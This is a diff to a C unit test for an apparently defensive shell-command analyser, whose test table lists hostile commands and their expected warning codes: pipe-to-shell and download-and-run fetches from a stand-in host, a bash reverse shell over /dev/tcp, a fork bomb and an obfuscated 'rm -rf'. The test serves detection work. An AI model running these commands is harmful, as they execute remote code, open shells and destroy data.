@@ -134,7 +134,7 @@ static void what_cannot_be_known_is_said(void **state)
 	} cases[] = {
 		{ "curl -s http://x.test/i | sh", "NOTE-PIPE-TO-SHELL" },
 		{ "\"$BIN\" run", "NOTE-UNKNOWN-PROGRAM" },
-		{ "r$(true)m -rf x", "NOTE-UNKNOWN-PROGRAM" },
+		{ "r$(id -un)m -rf x", "NOTE-UNKNOWN-PROGRAM" },
 		{ ":(){ :|:& };:", "NOTE-FORK-BOMB" },
 		{ "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "NOTE-DEV-TCP" },
 		{ "wget -O /tmp/u http://x.test/u && sh /tmp/u", "NOTE-DOWNLOAD-RUN" },
